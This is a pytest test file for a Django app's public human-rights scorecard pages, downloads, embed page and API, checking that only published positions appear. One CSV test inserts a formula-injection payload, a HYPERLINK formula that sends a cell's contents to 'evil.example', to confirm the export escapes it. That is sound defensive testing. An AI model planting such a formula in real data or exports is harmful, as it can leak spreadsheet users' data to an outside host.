"""The public scorecard pages, downloads, embed and API over HTTP: published only."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import pytest
from django.db.models import F
from django.test import override_settings
from django.urls import reverse

from tests.factories import RecommendationFactory
from tests.followup.scorecard_data import (
    DRAFT_QUOTE,
    DRAFT_RATIONALE,
    forget_scorecards,  # noqa: F401  (a fixture)
    make_card,
    position,
)
from uprhub.followup.models import Position, PositionStatus

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("forget_scorecards")]

SECRETS = (DRAFT_RATIONALE, DRAFT_QUOTE, "Org Two on the draft one")


def url(name, *args):
    return reverse(f"followup:{name}", args=["USA", 3, *args])


def text(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8-sig")
    return response.content.decode()


def test_index_lists_states_and_cycles_with_published_positions(client):
    make_card()
    response = client.get(reverse("followup:index"))
    assert response.status_code == 200
    page = text(response)
    assert "United States, cycle 3" in page
    assert url("scorecard") in page


def test_index_explains_follow_up_when_nothing_is_published(client):
    card = make_card()
    Position.objects.filter(round__review=card.review).update(status=PositionStatus.DRAFT)
    page = text(client.get(reverse("followup:index")))
    assert "No assessment is published yet" in page
    assert "a coordinator creates an assessment round" in page
    assert "United States, cycle 3" not in page
    assert client.get(url("scorecard")).status_code == 404


def test_scorecard_page_shows_headline_figures_evidence_claims_and_disagreement(client):
    make_card()
    response = client.get(url("scorecard"))
    assert response.status_code == 200
    page = text(response)
    assert "2 of 5" in page and "(40 %)" in page
    assert "Federal executions resumed." in page and "A/HRC/WG.6/50/USA/2" in page
    assert "The State says it is done." in page
    assert "Organisations disagree" in page and "Org Two on 26.1" in page
    assert "From Early 2021 to Mid-term 2022" in page
    # Charts: accessible SVG, each followed by its table.
    assert page.count('role="img"') == 3
    assert 'aria-labelledby="chart-grades-title chart-grades-desc"' in page
    assert "<caption>" in page and 'scope="col"' in page
    assert "The State's national report is not imported" in page
    for secret in SECRETS:
        assert secret not in page


def test_filters_sort_and_pagination(client, settings):
    make_card()
    page = text(client.get(url("scorecard"), {"bucket": "not_assessed"}))
    assert "Recommendation 26.5" in page and "Recommendation 26.6" in page
    assert "Recommendation 26.1" not in page
    page = text(client.get(url("scorecard"), {"theme": "Nothing like it"}))
    assert "No recommendation matches these filters." in page
    settings.UPRHUB_PAGE_SIZE = 4
    first = text(client.get(url("scorecard")))
    assert "Page 1 of 2" in first and "Recommendation 26.5" not in first
    second = text(client.get(url("scorecard"), {"page": 2}))
    assert "Recommendation 26.5" in second and "Recommendation 26.1" not in second


def test_round_switcher_and_unknown_round(client):
    make_card()
    page = text(client.get(url("scorecard"), {"round": "early-2021"}))
    assert (
        "Early 2021" in page and "1 of" not in page.split("Supported but not implemented")[1][:200]
    )
    assert client.get(url("scorecard"), {"round": "no-such"}).status_code == 404
    assert client.get(reverse("followup:scorecard", args=["ZZZ", 3])).status_code == 404


def test_csv_download_is_one_row_per_recommendation_and_formula_safe(client):
    card = make_card()
    rec = card.recs["26.4"]
    rec.text = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    rec.save()
    response = client.get(url("scorecard_csv"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="USA-cycle3-midterm-2022-scorecard.csv"'
    )
    rows = list(csv.reader(io.StringIO(text(response))))
    assert rows[0][:3] == ["Paragraph", "Recommendation", "Recommending States"]
    assert len(rows) == 7
    by_paragraph = {row[0]: row for row in rows[1:]}
    assert by_paragraph["26.4"][1].startswith("'=HYPERLINK")
    assert by_paragraph["26.1"][5:8] == ["C", "Not satisfactory", "Not implemented"]
    assert by_paragraph["26.1"][10] == "A/HRC/WG.6/50/USA/2 para. 26"
    assert by_paragraph["26.5"][5:8] == ["", "", "Not yet assessed"]
    for secret in SECRETS:
        assert secret not in text(client.get(url("scorecard_csv")))


def test_json_download_and_chart_downloads(client):
    make_card()
    response = client.get(url("scorecard_json"), {"round": "early-2021"})
    assert response["Content-Disposition"].endswith('USA-cycle3-early-2021-scorecard.json"')
    data = json.loads(response.content)
    assert data["round"]["slug"] == "early-2021" and len(data["recommendations"]) == 6
    data = json.loads(client.get(url("scorecard_json")).content)
    assert data["by_bucket"]["not_assessed"] == 2
    for secret in SECRETS:
        assert secret not in response.content.decode()
    for name in ("grades", "themes", "responses"):
        svg = client.get(url("scorecard_chart", name))
        assert svg.status_code == 200 and svg["Content-Type"].startswith("image/svg+xml")
        body = svg.content.decode()
        assert body.startswith("<?xml") and "<title" in body and "<desc" in body
        assert "style=" not in body  # the site's CSP allows no inline style
        root = ElementTree.fromstring(svg.content)  # well-formed XML, an accessible image
        assert root.get("role") == "img"
        assert root.get("aria-labelledby") == f"chart-{name}-title chart-{name}-desc"
        texts = [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")]
        assert "1" in texts  # the numbers are written on the chart, not only coloured
    assert client.get(url("scorecard_chart", "pies")).status_code == 404


def test_only_the_embed_page_may_be_framed(client):
    make_card()
    embed = client.get(url("scorecard_embed"))
    assert embed.status_code == 200
    assert "X-Frame-Options" not in embed
    assert "frame-ancestors *" in embed["Content-Security-Policy"]
    page = text(embed)
    assert "site-header" not in page and "<form" not in page
    assert 'target="_blank" rel="noopener"' in page
    for secret in SECRETS:
        assert secret not in page
    for other in (url("scorecard"), reverse("followup:index"), url("scorecard_csv")):
        response = client.get(other)
        assert response["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


@override_settings(UPRHUB_EMBED_FRAME_ANCESTORS=["https://coalition.example", "'self'"])
def test_embed_frame_ancestors_come_from_the_setting(client):
    make_card()
    policy = client.get(url("scorecard_embed"))["Content-Security-Policy"]
    assert "frame-ancestors https://coalition.example 'self'" in policy
    assert "default-src 'self'" in policy  # the rest of the site's policy is kept


def test_scorecard_page_offers_the_embed_code(client):
    make_card()
    page = text(client.get(url("scorecard")))
    assert "Embed this scorecard" in page
    assert '&lt;iframe src="http://testserver/followup/USA/3/embed/" title="United States' in page


def test_public_api(client):
    make_card()
    figures = client.get("/api/followup/scorecards/USA/3").json()
    assert figures["headline"]["supported_not_implemented"] == 2
    assert figures["round"]["slug"] == "midterm-2022"
    earlier = client.get("/api/followup/scorecards/USA/3", {"round": "early-2021"}).json()
    assert earlier["assessed"] == 2
    positions = client.get("/api/followup/scorecards/USA/3/positions", {"page_size": 3}).json()
    assert (positions["count"], positions["pages"]) == (4, 2)
    assert [p["paragraph"] for p in positions["results"]] == ["26.1", "26.2", "26.3"]
    second = client.get(
        "/api/followup/scorecards/USA/3/positions", {"page_size": 3, "page": 2}
    ).json()
    assert [p["paragraph"] for p in second["results"]] == ["26.4"]
    rounds = client.get("/api/followup/states/USA/rounds").json()
    assert [(r["slug"], r["published"]) for r in rounds] == [
        ("midterm-2022", 4),
        ("early-2021", 2),
    ]
    assert client.get("/api/followup/scorecards/USA/3", {"round": "nope"}).status_code == 404
    for response in (figures, positions, second, rounds):
        for secret in SECRETS:
            assert secret not in json.dumps(response)


def test_page_queries_do_not_grow_with_recommendations(client, django_assert_max_num_queries):
    card = make_card()
    with django_assert_max_num_queries(18):  # built: a fixed number of queries
        assert client.get(url("scorecard")).status_code == 200
    with django_assert_max_num_queries(8):  # kept: the data version and the page's own
        assert client.get(url("scorecard"), {"page": 1}).status_code == 200
    for n in range(7, 40):  # many more recommendations, published: no more queries
        rec = RecommendationFactory(review=card.review, paragraph=f"26.{n}")
        position(card.round, rec, "B")
    with django_assert_max_num_queries(18):
        assert "<strong>2 of 38</strong>" in text(client.get(url("scorecard")))


def test_kept_scorecards_change_at_once_when_positions_change(client):
    card = make_card()
    assert "<strong>2 of 5</strong>" in text(client.get(url("scorecard")))
    draft = Position.objects.get(round=card.round, recommendation=card.recs["26.5"])
    draft.status = PositionStatus.PUBLISHED  # a publication (D: no information)
    draft.save()
    page = text(client.get(url("scorecard")))
    assert "<strong>3 of 5</strong>" in page and DRAFT_RATIONALE in page
    # A bulk withdrawal that bumps the versions, as a service would.
    Position.objects.filter(round=card.round).update(
        status=PositionStatus.IN_REVIEW, version=F("version") + 1
    )
    assert client.get(url("scorecard"), {"round": "midterm-2022"}).status_code == 404
    assert "<strong>0 of 5</strong>" in text(client.get(url("scorecard")))  # early-2021 now


def test_the_about_page_explains_the_steps_and_the_shipped_scales(client):
    page = client.get(reverse("followup:about")).content.decode()
    assert "<h1>How following up works</h1>" in page
    for words in ("Largely satisfactory", "Contrary to the recommendation", "Fully implemented"):
        assert words in page
    # Linked from the site's header and from the scorecards' index.
    assert f'href="{reverse("followup:index")}"' in page
    index = client.get(reverse("followup:index")).content.decode()
    assert f'href="{reverse("followup:about")}"' in index


def test_the_shipped_grades_are_shown_in_the_visitors_language(client):
    from tests.followup.work_data import AS_OF, make_world
    from uprhub.followup.models import Position, PositionStatus

    world = make_world(recommendations=1)
    Position.objects.create(
        round=world.round, recommendation=world.recs[0], grade=world.grade("C"),
        as_of=AS_OF, status=PositionStatus.PUBLISHED,
    )  # fmt: skip
    state = world.round.review.state
    state.iso3 = "ZZG"
    state.save()
    url = reverse("followup:scorecard", args=["ZZG", world.round.review.session.cycle_id])
    page = client.get(url, HTTP_ACCEPT_LANGUAGE="es").content.decode()
    assert "C – Not satisfactory" not in page
    assert "C – No satisfactoria" in page
